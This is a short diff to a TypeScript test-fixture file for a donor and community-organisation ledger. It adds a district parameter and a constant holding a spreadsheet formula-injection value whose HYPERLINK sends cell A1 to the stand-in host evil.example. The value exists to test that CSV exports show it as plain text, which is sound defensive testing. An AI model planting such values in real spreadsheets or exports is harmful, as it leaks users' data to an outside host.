@@ -6,10 +6,13 @@ export const uid = (n: number): string => `00000000-0000-7000-8000-${n.toString(
 /** A pseudonym numbered n: 64 hex digits that sort as their numbers do. */
 export const pn = (n: number): string => n.toString(16).padStart(64, "0");
 
-export const cbo = (cboId: string, state: StateCode = "IN-KA"): LedgerEvent => ({
+export const cbo = (cboId: string, state: StateCode = "IN-KA", district = "Bengaluru Urban"): LedgerEvent => ({
   type: "CboRegistered",
-  data: { cboId, name: `CBO ${cboId}`, state, district: "Bengaluru Urban" },
+  data: { cboId, name: `CBO ${cboId}`, state, district },
 });
+
+/** A district a spreadsheet would run as a formula: every CSV the ledger writes must show it as text. */
+export const FORMULA_DISTRICT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 
 export const donor = (donorId: string): LedgerEvent => ({
   type: "DonorRegistered",
